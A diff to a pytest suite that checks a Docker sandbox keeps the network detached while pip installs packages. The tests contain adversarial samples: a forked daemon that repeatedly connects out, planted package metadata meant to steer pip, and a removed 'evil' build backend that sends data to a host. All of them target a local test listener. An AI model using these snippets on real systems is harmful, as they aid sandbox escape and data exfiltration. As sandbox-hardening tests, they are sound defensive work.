@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import asyncio
 import hashlib
+import re
 import threading
 import time
 from collections.abc import Iterator
@@ -17,11 +18,10 @@ from autogen_core.code_executor import CodeBlock
 from sandbox.container import SandboxContainer
 from sandbox.docker_executor import SandboxExecutor
 from sandbox.exec_stream import Command
+from sandbox.network import attach_network, detach_network
 from sandbox.packages.install import (
     Installation,
     PipRequest,
-    attach_network,
-    detach_network,
     hide_password,
     install_packages,
     names_present,
@@ -121,34 +121,45 @@ def test_names_fail_at_once_after_the_window(engine: docker.APIClient, container
 
 
 @pytest.mark.engine
-def test_what_a_program_left_behind_does_not_live_to_see_the_network(engine: docker.APIClient, container: SandboxContainer) -> None:
-    knock = f"""
+def test_what_a_program_left_behind_does_not_live_to_see_the_window(engine: docker.APIClient, container: SandboxContainer) -> None:
+    knock = """
 import os, socket, time
 if os.fork() == 0:
     os.setsid()
     os.closerange(0, 3)
     while True:
         try:
-            socket.create_connection(('{gateway(engine)}', PORT), 0.2).close()
+            socket.create_connection((HOST, PORT), 0.2).close()
         except OSError:
             pass
         time.sleep(0.01)
 """
     with Listener() as listener:
-        code = knock.replace("PORT", str(listener.port))
+        code = knock.replace("HOST", repr(gateway(engine))).replace("PORT", str(listener.port))
         python(container, code)
         assert install(engine, container, "./nothing-of-this-name").verdict is Verdict.FAILED
         assert listener.visits == []
-        # The positive control: the same program, with the network attached and nothing killed before, does get through.
+        assert not sh(container, "pidof python3 python; true").strip()
+        # The positive control: the same program, with the network attached and nothing ended before, does get through.
         engine.connect_container_to_network(container.id, "bridge")
         try:
             python(container, code)
-            until = time.monotonic() + 5
+            until = time.monotonic() + 20
             while not listener.visits and time.monotonic() < until:
                 time.sleep(0.02)
             assert listener.visits
         finally:
             detach_network(engine, container)
+
+
+@pytest.mark.engine
+def test_the_container_has_no_network_while_pip_installs(engine: docker.APIClient, container: SandboxContainer) -> None:
+    seen: list[list[str]] = []
+    with Listener() as listener:
+        listener.on_visit = lambda: seen.append(sorted(engine.inspect_container(container.id)["NetworkSettings"]["Networks"]))
+        install(engine, container, "six==0", url=f"http://{gateway(engine)}:{listener.port}/simple")
+    assert seen
+    assert {tuple(each) for each in seen} == {()}
 
 
 _SEEN = "import os; os.close(os.open('/tmp/SEEN', os.O_CREAT))"
@@ -178,34 +189,25 @@ def test_nothing_that_a_program_planted_runs_in_the_window(engine: docker.APICli
         sh(container, "rm -rf /tmp/SEEN ~/.local /workspace/*")
 
 
-_BACKEND = """mkdir -p evil; cd evil
-printf '[build-system]\\nrequires = []\\nbuild-backend = "back"\\nbackend-path = ["."]\\n' >pyproject.toml
-echo 'import socket; socket.create_connection(("HOST", PORT), 2).sendall(b"backend")' >back.py"""
 _METADATA = """d=$(python3 -m site --user-site)/requests-99.0.dist-info; mkdir -p $d && cd $d && echo pip >INSTALLER
 printf 'Metadata-Version: 2.1\\nName: requests\\nVersion: 99.0\\nRequires-Dist: WANTED\\n' >METADATA"""
 
 
 @pytest.mark.engine
-@pytest.mark.parametrize(
-    ("wanted", "word"), [("evil @ file:///workspace/evil", "backend"), ("invented-name", "invented-name")], ids=["backend", "name"]
-)
-def test_metadata_that_a_program_planted_lets_pip_fetch_and_build_nothing(
-    engine: docker.APIClient, container: SandboxContainer, wanted: str, word: str
-) -> None:
-    host, plant = gateway(engine), _METADATA.replace("WANTED", wanted)
+def test_metadata_that_a_program_planted_lets_pip_fetch_nothing(engine: docker.APIClient, container: SandboxContainer) -> None:
+    plant = _METADATA.replace("WANTED", "invented-name")
     with Listener() as listener:
-        url = f"http://{host}:{listener.port}/simple"
+        url = f"http://{gateway(engine)}:{listener.port}/simple"
         try:
-            sh(container, _BACKEND.replace("HOST", host).replace("PORT", str(listener.port)))
             sh(container, f"{_OWN}; {plant}")
             assert "denied" in sh(container, f"exec 2>&1; {plant}")
             install(engine, container, "requests", url=url)
             assert listener.asked  # for requests itself: what was planted is not seen as installed
-            assert not [line for line in listener.asked if word in line]
+            assert not [line for line in listener.asked if "invented-name" in line]
             # The positive control: the same metadata where pip sees it.
             sh(container, plant, PIP_USER)
             done = install(engine, container, "requests", url=url)
-            assert [line for line in listener.asked if word in line], done.output
+            assert [line for line in listener.asked if "invented-name" in line], done.output
         finally:
             sh(container, "rm -rf ~/.local /workspace/*")
             sh(container, f"rm -rf {PACKAGES}/*", PIP_USER)
@@ -329,8 +331,9 @@ def test_a_container_that_keeps_a_network_is_not_used_again(engine: docker.APICl
             return (lambda *_, **__: None) if name == "disconnect_container_from_network" else getattr(engine, name)
 
     try:
+        attach_network(engine, container)
         with pytest.raises(ContainerLost, match="eth0 is still there"):
-            install(Keeps(), container, "./nothing-of-this-name")  # type: ignore[arg-type]
+            detach_network(Keeps(), container)  # type: ignore[arg-type]
     finally:
         container.remove()
 
@@ -345,6 +348,9 @@ def test_two_packages_are_installed_and_used_without_the_network(
     done = install(engine, container, "six==1.16.0", "toolz")
     assert done.verdict is Verdict.OK, done.output
     assert {package.name for package in done.installed} == {"six", "toolz"}
+    assert all(re.fullmatch("[0-9a-f]{64}", package.sha256) for package in done.installed)
+    known = "8abb2f1d86890a2dfb989f9a77cfcfd3e47c2a354b01111771326f8aa26e0254"  # of six-1.16.0-py2.py3-none-any.whl, as PyPI lists it
+    assert next(package.sha256 for package in done.installed if package.name == "six") == known
     assert interfaces(container) == ["lo"]
     assert python(container, "import six, toolz; print(six.__version__, list(toolz.interleave([[1, 3], [2]])))") == "1.16.0 [1, 2, 3]\n"
     again = install(engine, container, "six")
@@ -436,9 +442,9 @@ async def test_a_listener_of_the_programs_own_is_no_try_of_the_network(image: st
 
 
 @pytest.mark.engine
-async def test_without_an_engine_that_attaches_networks_nothing_is_installed(image: str, tmp_path: Path) -> None:
+async def test_the_strict_profile_installs_nothing_and_has_no_network_to_switch(image: str, tmp_path: Path) -> None:
     async with SandboxExecutor(image, work_dir=tmp_path, limits=LIMITS, strict=True) as executor:
-        with pytest.raises(EngineError):
+        with pytest.raises(EngineError, match="the strict profile has no network"):
             await executor.install([PipRequest(("six",))], CancellationToken())
         for network in ("on", "install"):
             with pytest.raises(EngineError, match="the strict profile has no network") as raised:
